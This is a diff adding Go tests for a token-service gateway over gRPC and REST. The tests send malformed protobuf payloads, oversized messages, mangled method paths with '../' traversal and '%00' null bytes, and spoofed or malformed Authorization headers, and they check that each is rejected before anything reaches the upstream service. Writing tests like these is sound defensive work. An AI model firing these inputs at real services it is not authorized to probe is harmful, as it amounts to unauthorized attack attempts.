+		"wire type 6":                     append(slices.Clone(id), 0x16),
+		"wire type 7":                     append(slices.Clone(id), 0x17),
+		"a group that is not closed":      append(slices.Clone(id), 0x7b),
+		"a group closed that is not open": append(slices.Clone(id), 0x7c),
+		"groups nested deep":              append(slices.Clone(id), bytes.Repeat([]byte{0x7b}, 30000)...),
+		"the team's id as a number":       {0x08, 0x01},
+		"the team's id as a group":        {0x0b, 0x0c},
+		"the team's id twice, then none":  append(slices.Clone(id), text(1, "")...),
+		"the team's id twice, then worse": append(slices.Clone(id), text(1, "..")...),
+		"an expiry cut short":             append(slices.Clone(id), 0x12, 0x02, 0x08),
+		"an expiry that is no message":    append(slices.Clone(id), text(2, "2099-01-01T00:00:00Z")...),
+		"a request id of bad bytes":       append(slices.Clone(id), text(3, "\xff\xfe")...),
+		"a token id of bad bytes":         append(slices.Clone(id), text(4, "\xc0\xaf")...),
+		"JSON":                            []byte(`{"team_id":"` + team + `"}`),
+		"a JSON:API document":             []byte(`{"data":{"type":"authentication-tokens"}}`),
+		"HTML":                            []byte("<html></html>"),
+		"NULs":                            make([]byte, 100),
+		"one bits":                        bytes.Repeat([]byte{0xff}, 60000),
+	} {
+		cases = append(cases, grpcCase{name: "message: " + name, method: generate, message: b, code: codes.InvalidArgument, reason: invalidField})
+	}
+	// grpc-go counts the bytes before it knows the method's type.
+	for _, n := range []int{64<<10 + 1, 1 << 20} {
+		cases = append(cases, grpcCase{
+			name: fmt.Sprintf("message: %d bytes", n), method: generate, message: make([]byte, n), code: codes.ResourceExhausted,
+		})
+	}
+	return cases
+}
+
+func unknownMethods() (cases []grpcCase) {
+	const service = "/teamtoken.v1.TeamTokenService/"
+	for _, m := range []string{
+		service, service + "generateToken", service + "GenerateTokens", service + "GenerateToken/", service + "../GetToken", service + "GetToken%00",
+		"/teamtoken.v1.TeamTokenService", "/teamtoken.v1.teamtokenservice/GetToken", "/teamtoken.v2.TeamTokenService/GetToken",
+		"/TeamTokenService/GetToken", "//teamtoken.v1.TeamTokenService/GetToken", "/", tokenPath, "/grpc.health.v1.Health/Chec",
+		"/grpc.health.v1.Nothing/Check", "/grpc.channelz.v1.Channelz/GetServers",
+	} {
+		cases = append(cases, grpcCase{name: "method " + m, method: m, message: text(1, team), code: codes.Unimplemented})
+	}
+	return cases
+}
+
+// An authorization is what a caller sends who brings no credential that could be
+// the upstream's.
+type authorization struct {
+	name   string
+	values []string
+}
+
+func authorizations() []authorization {
+	return []authorization{
+		{"missing", nil},
+		{"empty", []string{""}},
+		{"the scheme alone", []string{"Bearer"}},
+		{"the scheme and a space", []string{"Bearer "}},
+		{"another scheme", []string{"Basic dTpw"}},
+		{"no scheme", []string{"a.atlasv1.b"}},
+		{"the scheme and a colon", []string{"Bearer: a"}},
+		{"a tab for the space", []string{"Bearer\ta"}},
+		{"two spaces", []string{"Bearer  a"}},
+		{"two words", []string{"Bearer a b"}},
+		{"two in one", []string{"Bearer a, Bearer b"}},
+		{"twice", []string{"Bearer a", "Bearer b"}},
+		{"the same twice", []string{"Bearer a", "Bearer a"}},
+		{"one good, one empty", []string{"Bearer a", ""}},
+		{"a tab within", []string{"Bearer a\tb"}},
+		{"not ASCII", []string{"Bearer ä"}},
+		{"a bad byte", []string{"Bearer a\xff"}},
+		{"over-long", []string{"Bearer " + strings.Repeat("a", 5000)}},
+	}
+}
+
+const unauthenticated = "CALLER_UNAUTHENTICATED"
+
+func (a authorization) overREST(t *testing.T, f *facade) {
+	// What a gateway of gRPC might take for metadata does not help.
+	headers := []string{"Grpc-Metadata-Authorization: Bearer a", "Grpcgateway-Authorization: Bearer a", "X-Authorization: Bearer a", "Cookie: authorization=a"}
+	for _, v := range a.values {
+		headers = append(headers, "Authorization: "+v)
+	}
+	for _, m := range httpMethods {
+		restCase{request: rawRequest{method: m, target: tokenPath, headers: headers}, status: 401, reason: unauthenticated}.run(t, f)
+	}
+}
+
+func (a authorization) overGRPC(t *testing.T, f *facade, client *http.Client) {
+	headers := [][2]string{{"grpc-metadata-authorization", "Bearer a"}, {"authorization-bin", "QmVhcmVyIGE"}, {"x-authorization", "Bearer a"}}
+	for _, v := range a.values {
+		headers = append(headers, [2]string{"authorization", v})
+	}
+	for _, m := range []string{generate, get, del} {
+		grpcCase{method: m, headers: headers, message: text(1, team), code: codes.Unauthenticated, reason: unauthenticated}.run(t, f, client)
+	}
+}
+
+// What grpc-go answers by itself, before it knows the method, has the code that
+// grpc-go chose; nothing goes upstream all the same.
+func TestHostileFraming(t *testing.T) {
+	sim, url := newSimulator(t)
+	f, client := start(t, withService(sim, url)), http2(t)
+	for _, header := range [][2]string{
+		{"grpc-timeout", "1"}, {"grpc-timeout", "S"}, {"grpc-timeout", "-1S"}, {"grpc-timeout", "1.5S"}, {"grpc-timeout", "1s"},
+		{"grpc-timeout", "123456789S"}, {"grpc-timeout", "soon"}, {"grpc-timeout", ""},
+		{"x-a-bin", "not base64!"}, {"authorization-bin", "%"}, {"grpc-encoding", "nonsense"}, {"grpc-encoding", "gzip"},
+		{"Content-Type", "application/json"}, {"Connection", "close"},
+	} {
+		t.Run(header[0]+" "+header[1], func(t *testing.T) {
+			if header[0] == "Connection" {
+				t.Skip("net/http sends none over HTTP/2")
+			}
+			st := f.sendGRPC(t, client, generate, [][2]string{header}, text(1, team))
+			if st.Code() == codes.OK {
+				t.Errorf("%v", st)
+			}
+			t.Log(st.Code(), st.Message())
+			if n := len(sim.Requests()); n != 0 {
+				t.Errorf("%d requests went upstream", n)
+				sim.Reset()
+			}
+		})
+	}
+}
